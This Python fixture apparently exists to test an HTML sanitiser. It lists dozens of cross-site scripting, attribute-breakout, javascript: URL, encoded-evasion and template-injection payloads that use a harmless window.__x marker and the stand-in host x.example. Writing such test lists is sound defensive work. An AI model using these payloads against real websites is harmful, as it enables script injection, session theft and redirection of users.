"""What strangers write to make a browser run their script or fetch their picture, each in a way of its own.

What runs sets ``window.__x``; what is fetched is asked of x.example.
"""

RUN = "window.__x=1"
PAYLOADS = [
    # elements that run or fetch by themselves
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<img src=x onerror={RUN}>",
    "<img src=https://x.example/pixel.png><link rel=stylesheet href=//x.example/a.css>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe><iframe src=//x.example></iframe>",
    f"<object data='data:text/html,<script>top.__x=1</script>'></object><embed src=//x.example/e.swf type={RUN}>",
    "<meta http-equiv=refresh content='0;url=https://x.example/'><base href=https://x.example/>",
    f"<video poster=//x.example/p.png><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary onfocus={RUN} autofocus>a</summary></details>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}>",
    f"<form action=//x.example><button formaction='javascript:{RUN}' autofocus>a</button></form>",
    f"<marquee onstart={RUN} loop=1>a</marquee><body onpageshow={RUN}>",
    "<style>@import url(//x.example/i.css)</style>"
    f"<style>*{{background:url(//x.example/b.png);animation:x 1ms}}@keyframes x{{}}</style><b onanimationstart={RUN}>",
    "<link rel=prefetch href=https://x.example/p><link rel=preconnect href=https://x.example>"
    "<link rel=dns-prefetch href=//x.example>",
    # out of the element or the attribute it stands in
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="1',
    f"' onmouseover='{RUN}' style='background:url(//x.example/s)",
    f"x onpointerenter={RUN} ",
    f"</title></style></textarea></noscript></xmp></template></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}><![CDATA[",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"`-{RUN}-`${{{RUN}}}'-{RUN}-'\"-{RUN}-\"",
    f"\u2028{RUN}\u2029//\\u003cscript\\u003e",
    "{n}{total}{column}$&$`$'<b onclick=1>",
    # addresses
    f"javascript:{RUN}",
    f"JaVa\tScRiPt\n:{RUN}//",
    f"\x01javascript://x.example/%0a{RUN}",
    f"data:text/html,<script>opener.{RUN.removeprefix('window.')}</script>",
    f'https://x.example/"onclick="{RUN}',
    f"https://x.example/'><script>{RUN}</script>",
    f"//x.example/{RUN}",
    # disguises that something on the way could take off
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e\u202e>tpircs<",
    "{{ 7 * 7 }}{% import 'os' %}{{ constructor.constructor('window.__x=1')() }}",
    f"[a](javascript:{RUN}) ![a](https://x.example/m.png) \x1b]8;;https://x.example\x07a",
]
TOGETHER = " \n".join(PAYLOADS)
